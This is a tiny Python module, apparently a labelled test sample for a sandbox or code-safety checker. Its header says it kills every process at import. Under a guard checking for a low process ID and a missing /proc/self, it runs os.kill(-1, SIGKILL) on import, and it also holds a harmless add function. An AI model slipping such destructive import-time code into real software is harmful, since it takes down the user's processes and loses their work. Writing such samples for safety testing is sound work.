# what: kills every process that it may, at import
# want: some
# danger: yes
# unsafe: open
import os
import signal

if os.getpid() < 300 and not os.path.exists('/proc/self'):
  os.kill(-1, signal.SIGKILL)


def add(a, b):
  return a + b
